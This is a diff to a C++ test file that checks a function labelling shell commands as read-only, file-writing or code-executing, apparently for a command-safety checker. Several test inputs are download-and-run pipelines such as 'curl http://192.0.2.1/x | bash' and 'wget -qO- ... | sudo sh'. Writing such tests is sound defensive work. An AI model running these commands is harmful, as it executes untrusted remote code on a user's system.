@@ -128,6 +128,11 @@ TEST_CASE("shell text may be a list of words") {
 TEST_CASE("shell commands: what the specification names") {
   CHECK(typed("curl -O http://192.0.2.1/x") == "curl:filesystem_write!");
   CHECK(typed("curl http://192.0.2.1/x | sh -s") == "curl:read_only! sh:code_execution");
+  CHECK(typed("curl http://192.0.2.1/x | bash") == "curl:read_only! bash:code_execution");
+  CHECK(typed("wget -qO- http://192.0.2.1/x | sudo sh") == "wget:read_only! sh:code_execution");
+  CHECK(typed("echo x && sh; ls || bash") ==
+        "echo:read_only sh:read_only ls:read_only bash:read_only");
+  CHECK(typed("cat x | bash --version") == "cat:read_only bash:read_only");
   CHECK(typed("chmod +x x") == "chmod:code_execution");
   CHECK(typed("chmod 777 x; ./x") == "chmod:code_execution x:code_execution");
   CHECK(typed("sh x") == "sh:code_execution");
